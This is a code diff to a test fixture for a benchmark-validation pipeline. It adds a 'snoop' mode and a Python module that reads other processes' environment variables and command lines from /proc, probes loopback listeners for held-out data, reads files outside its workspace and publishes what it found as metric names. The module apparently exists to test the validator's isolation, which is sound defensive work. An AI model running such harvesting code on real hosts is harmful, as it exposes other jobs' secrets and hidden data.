@@ -9,7 +9,8 @@ import type { ValidatorJobToReplay } from '../src/replay/replay-pipeline';
  * A tiny benchmark repository: bench.py computes `loss` from data.txt and model.py's SCALE and writes
  * result.json. Plain env switches (validator-private values passed through) make it misbehave:
  * BENCH_MODE=exit-3 exits 3, BENCH_MODE=sleep-forever outlives any budget, BENCH_MODE=print-only only prints the metric,
- * BENCH_MODE=leak-heldout writes every held-out row as a metric name (a miner trying to publish hidden data).
+ * BENCH_MODE=leak-heldout writes every held-out row as a metric name (a miner trying to publish hidden data),
+ * BENCH_MODE=snoop looks for what it was not given (see SNOOP_PY) and publishes whatever it found.
  * It records its environment in env.json, and reads HELDOUT_PATH and ARTIFACT_PATH when given.
  */
 export const BENCH_PY = `import json, os, sys, time
@@ -28,6 +29,9 @@ if os.environ.get("HELDOUT_PATH"):
         metrics["metrics"] = {"leak:" + row: 1 for row in rows}
 if os.environ.get("ARTIFACT_PATH"):
     metrics["artifact_bytes"] = os.path.getsize(os.environ["ARTIFACT_PATH"])
+if mode == "snoop":
+    import snoop
+    metrics.update(snoop.run())
 print("step 1 loss=99")
 print("loss=%s" % loss)
 if mode == "exit-3":
@@ -37,6 +41,102 @@ if mode == "sleep-forever":
     time.sleep(600)
 if mode != "print-only":
     json.dump(metrics, open("result.json", "w"))
+`;
+
+/**
+ * A hostile benchmark (BENCH_MODE=snoop) looking for the held-out source it was not given: every variable of
+ * its environment; the environment and command line of every process it can see in /proc (pid 1 included); a
+ * TCP connection and an HTTP request to each loopback listener it can find, and to the port SNOOP_PORT names
+ * (the host's held-out server, as a benchmark that guessed it would try); every file it can read outside its
+ * own workspace and the system directories (other jobs, the runner's work directory and its parents, /tmp);
+ * and the listing of each directory above its workspace. It writes all of it to snoop.json, prints the paths
+ * it read, and publishes each as a metric name `found:<path>` in result.json.
+ */
+export const SNOOP_PY = `import json, os, socket
+
+SYSTEM = {"/usr", "/proc", "/sys", "/dev", "/etc", "/bin", "/sbin", "/lib", "/lib32", "/lib64", "/libx32"}
+
+
+def read(path, limit=1 << 16):
+    try:
+        with open(path, "rb") as handle:
+            return handle.read(limit).decode("utf-8", "replace")
+    except OSError:
+        return None
+
+
+def processes():
+    seen = {}
+    for pid in sorted(name for name in os.listdir("/proc") if name.isdigit()):
+        seen[pid] = {"environ": read("/proc/%s/environ" % pid), "cmdline": read("/proc/%s/cmdline" % pid)}
+    return seen
+
+
+def listeners():
+    ports = set()
+    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
+        for line in (read(table) or "").splitlines()[1:]:
+            fields = line.split()
+            if len(fields) > 3 and fields[3] == "0A":
+                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
+    return sorted(ports)
+
+
+def request(port):
+    try:
+        connection = socket.create_connection(("127.0.0.1", port), timeout=2)
+    except OSError as error:
+        return "refused errno %d" % error.errno
+    with connection:
+        connection.sendall(b"GET /heldout/rows.jsonl HTTP/1.0\\r\\n\\r\\n")
+        return "answered " + connection.recv(65536).decode("utf-8", "replace")
+
+
+def files_outside(workspace):
+    """The first 4 KiB of each readable file, of the first 100 (a host's /tmp would hold many more)."""
+    found = {}
+    for top in sorted(os.listdir("/")):
+        if "/" + top in SYSTEM:
+            continue
+        for directory, subdirectories, names in os.walk("/" + top):
+            subdirectories.sort()
+            if directory == workspace or directory.startswith(workspace + "/"):
+                subdirectories[:] = []
+                continue
+            for name in sorted(names):
+                text = read(os.path.join(directory, name), 4096)
+                if text is not None and len(found) < 100:
+                    found[os.path.join(directory, name)] = text
+    return found
+
+
+def listings(workspace):
+    seen = {}
+    directory = workspace
+    while directory != "/":
+        directory = os.path.dirname(directory)
+        try:
+            seen[directory] = sorted(os.listdir(directory))
+        except OSError as error:
+            seen[directory] = "errno %d" % error.errno
+    return seen
+
+
+def run():
+    workspace = os.getcwd()
+    ports = listeners()
+    if os.environ.get("SNOOP_PORT"):
+        ports.append(int(os.environ["SNOOP_PORT"]))
+    findings = {
+        "environ": dict(os.environ),
+        "processes": processes(),
+        "network": {str(port): request(port) for port in ports},
+        "files": files_outside(workspace),
+        "listings": listings(workspace),
+    }
+    json.dump(findings, open("snoop.json", "w"), indent=1)
+    print("read outside the workspace: %s" % " ".join(sorted(findings["files"])))
+    return {"found:" + path: 1 for path in findings["files"]}
 `;
 
 export const MODEL_PY = 'SCALE = 1.0\n';
@@ -57,6 +157,7 @@ export function createBenchRepo(dir: string): string {
   git('init', '-q', '-b', 'main');
   writeFileSync(join(dir, 'bench.py'), BENCH_PY);
   writeFileSync(join(dir, 'model.py'), MODEL_PY);
+  writeFileSync(join(dir, 'snoop.py'), SNOOP_PY);
   writeFileSync(join(dir, 'data.txt'), '1 2 3 4\n');
   git('add', '.');
   git('commit', '-q', '-m', 'baseline');
